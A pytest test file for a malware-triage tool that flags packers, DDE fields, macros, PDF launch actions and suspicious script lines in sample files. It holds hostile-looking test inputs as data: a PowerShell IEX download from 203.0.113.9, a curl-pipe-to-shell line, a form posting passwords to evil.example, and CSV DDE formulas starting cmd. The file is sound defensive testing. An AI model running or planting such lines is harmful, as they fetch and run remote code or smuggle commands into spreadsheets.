"""file_triage on real programs and documents."""

from __future__ import annotations

import io
import sys
import zipfile
from typing import Any

import pytest

from secgemini_jupyter.local_server.analyst.prompts import request_of
from secgemini_jupyter.local_server.analyst.tool import Attached
from secgemini_jupyter.local_server.analyst.toolbox import tools
from secgemini_jupyter.local_server.analyst.tools.file_triage import TriageArguments
from secgemini_jupyter.local_server.analyst.triage.common import entropy
from secgemini_jupyter.local_server.analyst.wishes import Wish
from tests.local_server.analyst.conftest import Ask
from tests.local_server.analyst.corpus import corpus

CLAM, OLE, PDF = "clamav-testfiles", "oletools", "pypdf"


def triaged(content: bytes, name: str = "it", *about: str) -> dict[str, Any]:
    return tools()["file_triage"].run(TriageArguments(file=name, about=list(about)), {name: content})


def read(package: str, path: str) -> bytes:
    folder = {OLE: "tests/test-data/", PDF: "resources/"}.get(package, "")
    return (corpus(package) / (folder + path)).read_bytes()


def found(result: dict[str, Any], kind: str) -> list[tuple[str, str]]:
    return [(each["what"], each["value"]) for each in result["findings"] if each["kind"] == kind]


@pytest.mark.parametrize(
    ("name", "packers", "imphash"),
    [
        ("clam-upx.exe", ["UPX"], "2b07ba9c1e54b04624dfdda69d875a1d"),
        ("clam-aspack.exe", ["ASPack"], "d5e0355f8764c235b38759b860077ceb"),
        ("clam-petite.exe", ["Petite"], "1690583d092ec29683fec46045544e79"),
        ("clam-mew.exe", ["MEW"], "87bed5a7cba00c7e1f4015f1bdae2183"),
        ("clam-yc.exe", ["UPX", "yoda's Crypter"], "87bed5a7cba00c7e1f4015f1bdae2183"),
        ("clam.exe", [], "98c88d882f01a3f6ac1e5f7dfd761624"),
    ],
)
def test_a_program_tells_its_packer_and_its_imports(name: str, packers: list[str], imphash: str) -> None:
    result = triaged(read(CLAM, name), name)
    assert result["kind"] == "executable/pe"
    assert result["facts"]["packers"] == packers
    assert result["facts"]["imphash"] == imphash
    answer = tools()["file_triage"].answer(result, Wish())
    assert imphash in answer
    assert ("not the same as malicious" in answer) == bool(packers)


@pytest.mark.parametrize("directories", [0, 1, 2, 4, 2**31])
def test_a_program_with_fewer_directories_than_usual_is_read(directories: int) -> None:
    content = bytearray(read(CLAM, "clam-upx.exe"))
    at = int.from_bytes(content[60:64], "little") + 24 + 92
    content[at : at + 4] = directories.to_bytes(4, "little")
    result = triaged(bytes(content))
    assert result["facts"]["packers"] == ["UPX"]
    assert "UPX" in tools()["file_triage"].answer(result, Wish())


@pytest.mark.parametrize(
    ("name", "inside"),
    [
        pytest.param("clam.ea06.exe", "a compiled AutoIt script", marks=pytest.mark.slow),
        pytest.param("clam_IScab_int.exe", "an InstallShield cabinet", marks=pytest.mark.slow),
        ("clam-nsis.exe", "an NSIS installer"),
    ],
)
def test_what_follows_the_last_section_is_told(name: str, inside: str) -> None:
    assert triaged(read(CLAM, name))["facts"]["overlay"]["looks_like"] == inside


@pytest.mark.parametrize(
    ("path", "what", "value"),
    [
        ("msodde/dde-test.docx", "a DDEAUTO field", 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
        ("msodde/dde-test.docm", "a DDEAUTO field", "cmd.exe"),
        ("msodde/dde-test-from-office2016.doc", "a DDEAUTO field", "cmd.exe"),
        ("msodde/dde-test.xlsx", "a DDE link", "cmd /c calc.exe"),
        ("msodde/dde-test.xlsb", "an external link", "cmd /c calc.exe"),
        ("msodde/dde-in-excel2003.xml", "a formula starts a program by DDE", "=cmd|'/c calc.exe'!A1"),
        ("msodde/dde-in-csv.csv", "a cell starts a program by DDE", "=cmd|'/k "),
        ("excel4-macros/excel4_sample_macro.xls", "an Excel 4.0 macro sheet", "Macro1"),
        ("excel4-macros/excel4_sample_macro_excel5_format.xls", "an Excel 4.0 macro sheet", ""),
        ("excel4-macros/excel4_sample_macro.xlsm", "a name starts a macro", "Auto_Open"),
        ("excel4-macros/excel4_sample_macro.slk", "a name starts a macro", "Auto_Open"),
        ("oleobj/sample_with_calc_embedded.doc", "a packaged file of 31,232 bytes", "calc.exe"),
        ("oleobj/sample_with_lnk_file.ppt", "a packaged file of 1,220 bytes", "calc.lnk"),
        pytest.param("olevba/sample_with_vba.ppt", "VBA macros", "", marks=pytest.mark.slow),
    ],
)
def test_what_a_document_runs(path: str, what: str, value: str) -> None:
    result = triaged(read(OLE, path), path.rpartition("/")[2])
    assert [each for each in found(result, "runs") if each[0].startswith(what) and value in each[1]]


@pytest.mark.parametrize(
    "name", ["dde-in-word2003.xml.zip", "dde-in-word2007.xml.zip", "dde-test-from-office2003.doc.zip"]
)
def test_what_an_older_document_runs(name: str) -> None:
    with zipfile.ZipFile(io.BytesIO(read(OLE, f"msodde/{name}"))) as archive:
        result = triaged(archive.read(name.removesuffix(".zip"), pwd=b"infected-test"), name)
    assert any("DDE" in what for what, _ in found(result, "runs"))


@pytest.mark.parametrize(
    "path",
    [
        "msodde/harmless-clean.doc",
        "msodde/harmless-clean.docx",
        "msodde/harmless-clean.docm",
        "msodde/harmless-clean.xml",
    ],
)
def test_a_harmless_document_runs_nothing_and_no_verdict_is_given(path: str) -> None:
    result = triaged(read(OLE, path), path, "runs")
    assert not found(result, "runs") + found(result, "fetches")
    answer = tools()["file_triage"].answer(result, Wish())
    assert "**Nothing was found** that runs something" in answer
    assert "no proof" in answer


def test_an_external_object_is_loaded() -> None:
    result = triaged(read(OLE, "oleobj/external_link/sample_with_external_link_to_doc.docx"))
    ((what, value),) = found(result, "fetches")
    assert what == "an external oleObject (loaded on opening)"
    assert value.startswith("https://raw.githubusercontent.com/decalage2/")


def test_macros_are_read_with_the_extra_and_told_without_it(monkeypatch: pytest.MonkeyPatch) -> None:
    content = read(OLE, "oleform/oleform-PR314.docm")
    with_extra = triaged(content)
    assert with_extra["facts"]["has_macros"]
    assert "Frame1_Click" in str(found(with_extra, "runs"))
    monkeypatch.setitem(sys.modules, "oletools", None)
    without = triaged(content)
    assert ("VBA macros", "") in found(without, "runs")
    assert any("secgemini-jupyter[analyst]" in limit for limit in without["limits"])


def test_encryption_is_told_and_excels_default_password_is_tried(monkeypatch: pytest.MonkeyPatch) -> None:
    content = read(OLE, "encrypted/dde-test-encrypt-standardpassword.xlsx")
    assert any(value == "cmd /c calc.exe" for _, value in found(triaged(content), "runs"))
    monkeypatch.setitem(sys.modules, "msoffcrypto", None)
    closed = triaged(content)
    assert not found(closed, "runs")
    assert [each["what"] for each in closed["unread"]] == ["its encrypted content"]
    assert found(triaged(read(OLE, "encrypted/encrypted.doc")), "hides")[0][0] == "it is encrypted"


@pytest.mark.parametrize(
    ("path", "kind", "what", "value"),
    [
        pytest.param("issue-297.pdf", "runs", "JavaScript", "app.alert", marks=pytest.mark.slow),
        ("issue-297.pdf", "runs", "an action runs when the document is opened", "/JavaScript"),
        ("SF424_page2.pdf", "runs", "an action starts a program (/Launch)", "toolkit.pdf"),
        ("attachment.pdf", "notes", "an embedded file", "jpeg.pdf"),
        ("encryption/r6-both-passwords.pdf", "hides", "it is encrypted", ""),
        ("encryption/r4-owner-password.pdf", "hides", "it is encrypted; it opens without a password", ""),
    ],
)
def test_what_a_pdf_holds(path: str, kind: str, what: str, value: str) -> None:
    assert [each for each in found(triaged(read(PDF, path)), kind) if each[0] == what and value in each[1]]


def test_links_and_metadata_of_a_pdf() -> None:
    facts = triaged(read(PDF, "crazyones.pdf"))["facts"]
    assert facts["pages"] == 1
    assert facts["metadata"]["Producer"].startswith("xdvipdfmx")
    assert "http://www.geogratis.gc.ca/" in triaged(read(PDF, "GeoBase_NHNC1_Data_Model_UML_EN.pdf"))["facts"]["links"]


def test_a_packaged_program_in_rtf() -> None:
    assert ("an embedded object of 4,416 bytes: a packaged file, which a click opens", "Clam.exe") in found(
        triaged(read(CLAM, "clam.exe.rtf")), "runs"
    )


@pytest.mark.parametrize(
    ("name", "text", "what", "line"),
    [
        ("a.ps1", "$x = 1\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\n",
         "text is run as code", "line 2"),
        ("a.vbs", 'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', "a program is started", "line 1"),
        ("a.sh", "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", "downloaded text goes straight to a shell", "line 2"),
        ("a.html", "<html><form action='https://evil.example/x'><input type=password></form>",
         "a form is sent to", "line 1"),
        ("a.csv", "name,amount\n=HYPERLINK(\"http://evil.example\"),1\n",
         "a cell with a formula that reaches outside", "line 2"),
    ],
)  # fmt: skip
def test_a_line_that_stands_out_is_cited(name: str, text: str, what: str, line: str) -> None:
    findings = triaged(text.encode(), name)["findings"]
    assert any(each["what"] == what and each["where"] == line for each in findings)


def test_prose_stands_out_in_nothing() -> None:
    text = (
        read(PDF, "crazyones.txt").decode()
        + "Please execute the plan and start the program tomorrow. See a/b/c/path/to/file.\n"
    )
    assert triaged(text.encode(), "a.txt")["findings"] == []


def test_entropy() -> None:
    assert entropy(b"") == entropy(b"aaaa") == 0
    assert entropy(bytes(range(256)) * 8) == entropy(bytes(range(256)) * 8192) == 8
    assert entropy(b"ab" * 2**20) == 1


@pytest.mark.parametrize(
    ("name", "kind", "asks"),
    [
        ("x.exe", "executable/pe", "imphash?"),
        ("x.exe", "executable/pe", "which sections does it have?"),
        ("x.exe", "executable/pe", "is it signed?"),
        ("x.pdf", "document/pdf", "does it link to anything external?"),
        ("x.docx", "document/ooxml", "does it have macros?"),
        ("x.docx", "document/ooxml", "What happens when I open it?"),
        ("x.ps1", "text", "what does it do?"),
        ("x.bin", "application/octet-stream", "what kind of file is this?"),
    ],
)
def test_it_is_planned_for_questions_of_files(name: str, kind: str, asks: str) -> None:
    from secgemini_jupyter.local_server.analyst.planner import make_plan, request_of

    assert "file_triage" in [call.tool for call in make_plan(request_of(asks, [Attached(name, kind, 10)])).calls]


@pytest.mark.parametrize(
    ("name", "kind", "asks"),
    [
        ("x.log", "log/zeek", "which sections of the network import functions?"),
        ("x.exe", "executable/pe", "sha256 of x.exe"),
        ("x.eml", "email", "Phish?"),
        ("x.pem", "x509", "is it signed?"),
        ("x.exe", "executable/pe", "What is CWE-79?"),
        ("notes.txt", "text", "defang notes.txt"),
    ],
)
def test_it_is_not_planned_for_others(name: str, kind: str, asks: str) -> None:
    from secgemini_jupyter.local_server.analyst.planner import make_plan, request_of

    assert "file_triage" not in [call.tool for call in make_plan(request_of(asks, [Attached(name, kind, 10)])).calls]


def test_safe_is_answered_the_other_way_round() -> None:
    answer = tools()["file_triage"].answer
    sheet = b"name,count\n=cmd|'/k calc.exe'!A0,1\n"
    assert answer(triaged(sheet, "x.csv", "runs"), Wish()).startswith("**Yes**")
    told = triaged(sheet, "x.csv", "safe", "runs", "verdict")
    assert answer(told, Wish()).startswith("**No**, it starts something: ")
    assert answer(told, Wish(one_word=True)) == "No"
    assert answer(triaged(b"name,count\na,1\n", "x.csv", "safe"), Wish()).startswith("**Nothing was found**")


@pytest.mark.parametrize("asked", ["is this csv safe to open in excel", "Is it harmless?", "Can I open it?"])
def test_who_asks_whether_it_is_safe_is_heard(asked: str) -> None:
    request = request_of(asked, [Attached("x.csv", "text", 100)])
    (call,) = tools()["file_triage"].plan(request)
    assert call.arguments["about"][0] == "safe"


@pytest.mark.slow  # starts an engine
@pytest.mark.anyio
async def test_the_answer_leads_with_what_was_asked(ask: Ask) -> None:
    turn = await ask("Does this document run anything?", {"invoice.docx": read(OLE, "msodde/dde-test.docx")})
    assert turn.answer.startswith("**Yes**: a DDEAUTO field")
    assert "no VBA macros" in turn.answer.partition("\n")[0]
    turn = await ask("imphash only", {"sample.exe": read(CLAM, "clam-upx.exe")})
    assert turn.answer == "2b07ba9c1e54b04624dfdda69d875a1d"
